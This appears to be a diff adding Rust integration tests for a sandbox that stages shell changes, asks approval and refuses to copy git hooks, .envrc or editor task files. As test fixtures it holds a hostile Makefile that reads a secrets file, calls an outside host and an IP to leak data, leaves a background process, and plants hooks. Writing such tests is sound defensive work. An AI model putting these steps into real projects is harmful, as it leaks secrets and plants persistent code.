@@ -1,0 +1,415 @@
+//! The operator's folder: nothing is changed in it until the changes are copied, the person
+//! who is asked sees them, and what other programs obey cannot be planted.
+
+use std::path::PathBuf;
+
+use engine::approve::{ApprovalAnswer, Listing};
+use engine::call::CallRequest;
+use model::caller::{Caller, Origin};
+use model::govern::approval::ApprovalScope;
+use model::record::audit::Status;
+use serde_json::{Value, json};
+use store::Filter;
+
+use crate::toolbox::{done, until};
+use crate::toolbox_forge::{FORGE, Forge, OTHER, git};
+use crate::world::{Home, Says, World, error};
+
+/// A folder of the operator's, beside the home.
+struct Project {
+    path: PathBuf,
+    _keeps: Home,
+}
+
+impl Project {
+    fn new() -> Project {
+        let home = Home::new();
+        let path = home.path.join("project");
+        std::fs::create_dir_all(&path).unwrap();
+        let path = path.canonicalize().unwrap();
+        Project { path, _keeps: home }
+    }
+
+    fn read(&self, name: &str) -> Option<String> {
+        std::fs::read_to_string(self.path.join(name)).ok()
+    }
+
+    fn write(&self, name: &str, text: &str) {
+        let path = self.path.join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+}
+
+fn settings(project: &Project, rules: &str) -> String {
+    format!(
+        "[toolbox]\nenabled = [\"terminal\", \"code\", \"git\"]\nfolder = \"{}\"\nhosts = [\"{FORGE}\"]\n{rules}",
+        project.path.display()
+    )
+}
+
+const ALLOW: &str = "[[rule]]\nid = \"all\"\neffect = \"allow\"\n";
+/// Everything but the copy.
+const ASK_COPY: &str = "[approvals]\nwait_seconds = 1\n[[rule]]\nid = \"rest\"\neffect = \"allow\"\n\
+    [[rule]]\nid = \"copies\"\ntools = [\"applyChanges\"]\neffect = \"ask\"\n";
+
+fn world(settings: &str) -> World {
+    let home = Home::new();
+    home.file("ringfence.toml", settings);
+    World::with(home, |_| ())
+}
+
+#[tokio::test]
+async fn a_command_changes_the_folder_only_by_the_copy() {
+    let project = Project::new();
+    project.write("keep.txt", "one\ntwo\nthree\n");
+    project.write("gone.txt", "bye\n");
+    project.write("old/inner.txt", "x\n");
+    let world = world(&settings(&project, ASK_COPY));
+    let command = "sed -i s/two/TWO/ keep.txt; rm gone.txt; rm -r old; mkdir -p new/deep; \
+        printf '#!/bin/sh\\n' > new/deep/run; chmod +x new/deep/run; touch keep.txt; ln -s /etc link";
+    let outcome = world.call("shell", json!({"command": command})).await;
+    assert_eq!(outcome.status, Status::Done, "{outcome:?}");
+    let value = outcome.value.unwrap();
+    assert_eq!(value["exitCode"], 0, "{value}");
+    let changes = &value["changes"];
+    assert_eq!(
+        (&changes["applied"], &changes["why"]["code"]),
+        (&json!(false), &json!("approval.pending")),
+        "{value}"
+    );
+    let diff = changes["diff"].as_str().unwrap();
+    assert!(
+        diff.contains("-two\n+TWO") && diff.contains("--- a/gone.txt"),
+        "{diff}"
+    );
+    assert_eq!(changes["leftOut"], json!({"link": "links are not copied"}));
+    // Nothing is changed yet.
+    assert_eq!(project.read("keep.txt").unwrap(), "one\ntwo\nthree\n");
+    assert!(project.read("gone.txt").is_some() && !project.path.join("new").exists());
+    // The person who is asked sees the changes; the answer counts for these very ones.
+    let rows = world.engine.approvals().list(Listing::Pending).unwrap();
+    let row = rows.iter().find(|row| row.tool == "applyChanges").unwrap();
+    assert!(
+        row.arguments.contains("-two") && row.arguments.contains("+TWO"),
+        "{}",
+        row.arguments
+    );
+    let inbox = world.engine.approvals();
+    inbox
+        .approve(&row.id, &Caller::owner(), ApprovalScope::Once, None)
+        .unwrap();
+    let applied = done(&world, "applyChanges", json!({"changes": changes["id"]})).await;
+    assert!(applied["applied"].as_u64().unwrap() >= 5, "{applied}");
+    assert_eq!(project.read("keep.txt").unwrap(), "one\nTWO\nthree\n");
+    assert!(project.read("gone.txt").is_none() && !project.path.join("old").exists());
+    assert!(!project.path.join("link").exists());
+    use std::os::unix::fs::PermissionsExt as _;
+    let about = project.path.join("new/deep/run").metadata().unwrap();
+    assert_eq!(about.permissions().mode() & 0o100, 0o100);
+    // Once.
+    let again = world
+        .call("applyChanges", json!({"changes": changes["id"]}))
+        .await;
+    assert_ne!(again.status, Status::Done);
+}
+
+#[tokio::test]
+async fn changes_are_copied_once_by_their_caller_to_files_that_stayed() {
+    let project = Project::new();
+    project.write("file", "one\n");
+    let world = world(&settings(
+        &project,
+        &ASK_COPY.replace("\"ask\"", "\"deny\""),
+    ));
+    let value = done(
+        &world,
+        "shell",
+        json!({"command": "echo two > file; echo x > fresh"}),
+    )
+    .await;
+    let id = value["changes"]["id"].clone();
+    assert_eq!(value["changes"]["why"]["code"], "rule.denied");
+    // The operator allows it from now on.
+    world
+        .home
+        .file("ringfence.toml", &settings(&project, ALLOW));
+    let other = CallRequest::new(
+        Caller::named("bob"),
+        Origin::Mcp,
+        "applyChanges",
+        json!({"changes": id}),
+    );
+    assert_eq!(error(&world.made(other).await).0, "changes.unknown");
+    // Someone else changed a file meanwhile: nothing is copied, not even the rest.
+    project.write("file", "edited\n");
+    let outcome = world.call("applyChanges", json!({"changes": id})).await;
+    assert_eq!(error(&outcome).0, "changes.stale");
+    assert_eq!(project.read("file").unwrap(), "edited\n");
+    assert!(project.read("fresh").is_none());
+    project.write("file", "one\n");
+    done(&world, "applyChanges", json!({"changes": id})).await;
+    assert_eq!(project.read("file").unwrap(), "two\n");
+    let forged = json!({"changes": "0".repeat(64)});
+    assert_eq!(
+        error(&world.call("applyChanges", forged).await).0,
+        "changes.unknown"
+    );
+}
+
+/// Attack: what would run later, as the person, outside of every fence.
+#[tokio::test]
+async fn what_other_programs_obey_is_never_copied() {
+    let project = Project::new();
+    git(&project.path, &["init", "-q", "-b", "main"]);
+    git(&project.path, &["config", "core.hooksPath", "team/hooks"]);
+    project.write("vendor/lib/file", "x\n");
+    git(&project.path.join("vendor/lib"), &["init", "-q"]);
+    let world = world(&settings(&project, ALLOW));
+    let command = "for f in .git/hooks/post-commit .git/config vendor/lib/.git/hooks/pre-push \
+        vendor/lib/.git/config fresh/.git/config .gitmodules .envrc sub/.envrc .vscode/tasks.json \
+        .idea/x .husky/pre-commit .bashrc .zshenv .GIT/config '.git /x' bare/HEAD bare/config \
+        bare/objects/x bare/refs/x; do mkdir -p \"$(dirname \"$f\")\"; echo evil > \"$f\"; done; \
+        echo 'gitdir: elsewhere' > other; mkdir w; echo 'gitdir: /tmp/x' > w/.git; echo fine > ordinary";
+    let value = done(&world, "shell", json!({"command": command})).await;
+    assert_eq!(value["changes"]["applied"], true, "{value}");
+    assert_eq!(project.read("ordinary").unwrap(), "fine\n");
+    let mut open = vec![project.path.clone()];
+    while let Some(folder) = open.pop() {
+        for entry in std::fs::read_dir(folder).unwrap().flatten() {
+            if entry.file_type().unwrap().is_dir() {
+                open.push(entry.path());
+            } else {
+                let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
+                assert_ne!(text, "evil\n", "{:?}", entry.path());
+            }
+        }
+    }
+    assert!(!project.path.join("w/.git").exists() && !project.path.join(".GIT").exists());
+    let left_out = value["changes"]["leftOut"].as_object().unwrap();
+    assert!(
+        left_out.contains_key(".vscode") || left_out.contains_key(".vscode/tasks.json"),
+        "{left_out:?}"
+    );
+}
+
+/// `safety.fs` keeps to the same list.
+#[tokio::test]
+async fn tools_of_files_keep_to_the_same_list() {
+    let project = Project::new();
+    git(&project.path, &["init", "-q"]);
+    git(&project.path, &["config", "core.hooksPath", "team/hooks"]);
+    std::os::unix::fs::symlink(".git", project.path.join("notes")).unwrap();
+    project.write("box/.git/config", "x\n");
+    let folder = project.path.display();
+    let home = Home::new();
+    home.file(
+        "ringfence.toml",
+        "[[rule]]\nid = \"all\"\neffect = \"allow\"\n",
+    );
+    let world = World::with(home, |_| ());
+    let code =
+        "try { safety.fs[what](path, 'x', 'y'); return 'done' } catch (e) { return e.reason }";
+    world
+        .published(&crate::world::document(
+            "touch",
+            code,
+            json!({
+                "params": [
+                    {"name": "what", "type": "STRING", "required": true, "testValue": "writeText"},
+                    {"name": "path", "type": "STRING", "required": true, "testValue": "a.txt"},
+                ],
+                "sandboxOverrides": {"fileRead": true, "fileWrite": true, "fsBasePath": format!("{folder}")},
+            }),
+        ))
+        .await;
+    let touch = async |what: &str, path: &str| {
+        done(&world, "touch", json!({"what": what, "path": path})).await
+    };
+    assert_eq!(touch("writeText", "src/plain.txt").await, "done");
+    for path in [
+        ".git/hooks/post-commit",
+        ".git/config",
+        "sub/.git/config",
+        ".envrc",
+        ".vscode/tasks.json",
+        "team/hooks/pre-commit",
+        ".gitmodules",
+        ".GIT/x",
+    ] {
+        assert_eq!(touch("writeText", path).await, "path-protected", "{path}");
+        assert_eq!(touch("appendText", path).await, "path-protected", "{path}");
+    }
+    // By a link that leads to it, and by removing a folder around it.
+    assert_ne!(touch("writeText", "notes/hooks/post-commit").await, "done");
+    assert!(!project.path.join(".git/hooks/post-commit").exists());
+    assert_eq!(touch("deleteDir", "box").await, "path-protected");
+    assert!(project.path.join("box/.git/config").exists());
+}
+
+#[tokio::test]
+async fn git_tools_change_the_folder_at_once_and_only_what_is_gits() {
+    let project = Project::new();
+    git(&project.path, &["init", "-q", "-b", "main"]);
+    project.write("file", "one\n");
+    git(&project.path, &["add", "-A"]);
+    git(&project.path, &["commit", "-q", "-m", "first"]);
+    let config = project.read(".git/config").unwrap();
+    let world = world(&settings(&project, ALLOW));
+    project.write("file", "two\n");
+    done(&world, "gitAdd", json!({"paths": ["file"]})).await;
+    let made = done(&world, "gitCommit", json!({"message": "second"})).await;
+    assert_eq!(
+        json!(git(&project.path, &["rev-parse", "HEAD"])),
+        made["commit"]
+    );
+    assert_eq!(git(&project.path, &["status", "--porcelain"]), "");
+    done(
+        &world,
+        "gitBranch",
+        json!({"action": "create", "name": "topic"}),
+    )
+    .await;
+    assert!(git(&project.path, &["branch", "--list", "topic"]).contains("topic"));
+    assert_eq!(project.read(".git/config").unwrap(), config);
+    git(&project.path, &["fsck", "--strict"]);
+}
+
+/// A job's changes wait under its id.
+#[tokio::test]
+async fn the_changes_of_a_job_are_kept_for_its_owner() {
+    let project = Project::new();
+    let world = world(&settings(&project, ALLOW));
+    let job =
+        done(&world, "jobStart", json!({"command": "echo made > by-job"})).await["job"].clone();
+    let mut row = Value::Null;
+    until("it is done", async || {
+        row = done(&world, "jobStatus", json!({"job": job})).await;
+        row["state"] != "running"
+    })
+    .await;
+    assert_eq!(row["state"], "done", "{row}");
+    assert!(project.read("by-job").is_none());
+    done(
+        &world,
+        "applyChanges",
+        json!({"changes": row["changes"]["id"]}),
+    )
+    .await;
+    assert_eq!(project.read("by-job").unwrap(), "made\n");
+}
+
+/// The story: clone from an allowed host, run its tests, edit, commit; its Makefile is hostile.
+#[tokio::test]
+async fn a_hostile_project_is_worked_on_and_harms_nothing() {
+    let forge = Forge::plain().await;
+    let makefile = format!(
+        "test:\n\t@grep -q good app.txt && echo tests pass\n\
+         \t-@cat $$SECRETS 2>/dev/null\n\
+         \t-@python3 -c \"import urllib.request as u; print(u.urlopen('https://{OTHER}/x', timeout=5).read())\" 2>/dev/null && echo LEAKED\n\
+         \t-@python3 -c \"import socket; socket.create_connection(('93.184.215.14', 443), 3)\" 2>/dev/null && echo LEAKED\n\
+         \t-@setsid sleep 4444.4 >/dev/null 2>&1 &\n\
+         \t-@mkdir -p .git/hooks ../.git/hooks; echo 'touch pwned' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit\n\
+         \t-@echo 'touch pwned' > ../.envrc; echo built > built.txt\n"
+    );
+    forge.repository("app", &[("Makefile", &makefile), ("app.txt", "good\n")]);
+    let project = Project::new();
+    let home = Home::new();
+    home.file("ringfence.toml", &settings(&project, ASK_COPY));
+    home.file("secrets.env", "TOKEN=top-secret-value\n");
+    let secrets = home.path.join("secrets.env").display().to_string();
+    let world = forge.world_in(home);
+    // Clone.
+    let cloned = done(
+        &world,
+        "gitClone",
+        json!({"url": format!("https://{FORGE}/app.git")}),
+    )
+    .await;
+    assert_eq!(cloned["directory"], "app");
+    assert!(project.read("app/Makefile").is_some());
+    // Run its tests, with a person who sees the diff and agrees.
+    let person = Says::new(ApprovalAnswer::Approved(ApprovalScope::Once));
+    let command = format!("SECRETS={secrets} make test");
+    let arguments = json!({"command": command, "workingDirectory": "app", "timeout": 60});
+    let mut request = CallRequest::new(Caller::named("ann"), Origin::Mcp, "shell", arguments);
+    request.approver = Some(person.clone());
+    let outcome = world.made(request).await;
+    let value = outcome.value.clone().unwrap();
+    let stdout = value["stdout"].as_str().unwrap();
+    assert!(stdout.contains("tests pass"), "{value}");
+    assert!(
+        !stdout.contains("LEAKED") && !stdout.contains("top-secret"),
+        "{stdout}"
+    );
+    assert_eq!(value["changes"]["applied"], true, "{value}");
+    let asked = person.asked.lock().unwrap().clone();
+    assert_eq!(asked.len(), 1);
+    assert!(
+        asked[0].arguments.contains("+built"),
+        "{}",
+        asked[0].arguments
+    );
+    // The tests' file came; the traps did not, and nothing runs any more.
+    assert_eq!(project.read("app/built.txt").unwrap(), "built\n");
+    assert!(!project.path.join("app/.git/hooks/post-commit").exists());
+    assert!(!project.path.join(".envrc").exists());
+    assert!(!project.path.join(".git").exists());
+    let processes = std::fs::read_dir("/proc").unwrap().flatten();
+    for entry in processes {
+        let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
+        assert!(!String::from_utf8_lossy(&line).contains("4444.4"));
+    }
+    assert!(forge.asked().iter().all(|asked| !asked.contains(OTHER)));
+    // Edit and commit: the planted hook would run now.
+    project.write("app/app.txt", "good and better\n");
+    let made = done(
+        &world,
+        "gitCommit",
+        json!({"repository": "app", "message": "better", "paths": ["app.txt"]}),
+    )
+    .await;
+    assert_eq!(
+        json!(git(&project.path.join("app"), &["rev-parse", "HEAD"])),
+        made["commit"]
+    );
+    assert!(!project.path.join("app/pwned").exists());
+    // The record tells every step, and so does `explain`.
+    let entries = world
+        .engine
+        .store()
+        .audit()
+        .list(&Filter::default())
+        .unwrap();
+    let tools: Vec<_> = entries
+        .iter()
+        .map(|entry| entry.opening.tool.as_str())
+        .collect();
+    for tool in ["gitClone", "shell", "applyChanges", "gitCommit"] {
+        assert!(tools.contains(&tool), "{tools:?}");
+    }
+    let copy = entries
+        .iter()
+        .find(|entry| entry.opening.tool == "applyChanges")
+        .unwrap();
+    assert_eq!(
+        copy.opening.parent_id.as_deref(),
+        Some(outcome.call_id.as_str())
+    );
+    let shell = world.entry(&outcome).closing.unwrap();
+    assert!(shell.events.iter().any(|event| event["kind"] == "process"));
+    let refused = shell
+        .events
+        .iter()
+        .any(|event| event["kind"] == "egress" && !event["refusal"].is_null());
+    assert!(refused, "{:?}", shell.events);
+    let request = CallRequest::new(
+        Caller::named("ann"),
+        Origin::Mcp,
+        "applyChanges",
+        json!({"changes": "0".repeat(64)}),
+    );
+    let explained = world.engine.explain(&request);
+    assert_eq!(explained.effect, model::govern::rules::Effect::Ask);
+    world.assert_whole();
+}
